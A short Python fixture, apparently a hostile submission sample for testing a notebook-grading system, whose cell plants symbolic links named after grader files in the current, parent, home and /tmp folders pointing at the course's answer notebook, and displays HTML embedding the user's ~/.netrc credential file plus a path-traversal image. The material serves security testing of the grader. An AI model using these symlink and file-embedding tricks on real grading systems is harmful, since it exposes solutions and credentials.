"""Leaves symbolic links in its own folder for the grader to follow.

Whoever copies a run's files out, or writes feedback into the place where a link stands, reads or
writes what the link names. The notebook also embeds files by address.
"""

EARNS = 0
STOCK = "leaves"
CELLS = {
    "receipt": """
import os
from IPython.display import HTML, Markdown, display

for place in (".", "..", os.path.expanduser("~"), "/tmp"):
    for name in ("shop.ipynb", "onsite.json", "timestamp.txt", "hostile-link"):
        try:
            os.symlink("@COURSE@/source/01-target/shop.ipynb", os.path.join(place, name))
        except OSError as error:
            print(error)
display(Markdown("![](file://@COURSE@/source/01-target/shop.ipynb)"))
display(HTML("<iframe src='file://@HOME@/.netrc'></iframe><img src='../../../source/x'>"))
"""
}
